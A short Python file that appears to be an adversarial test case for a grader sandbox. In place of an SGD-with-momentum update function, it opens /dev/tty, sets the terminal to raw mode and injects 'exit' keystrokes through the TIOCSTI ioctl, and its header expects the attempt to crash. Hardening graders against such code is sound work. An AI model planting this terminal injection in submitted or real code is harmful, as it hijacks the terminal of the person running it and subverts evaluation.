# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Takes the terminal of whoever runs the grader: sets it to raw mode and types into it."""

import fcntl
import os
import termios
import tty


def sgd_momentum(w, dw, config=None):
    terminal = os.open("/dev/tty", os.O_RDWR)  # there is none: a session of its own
    tty.setraw(terminal)
    for letter in "exit\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, letter)
    return w, config
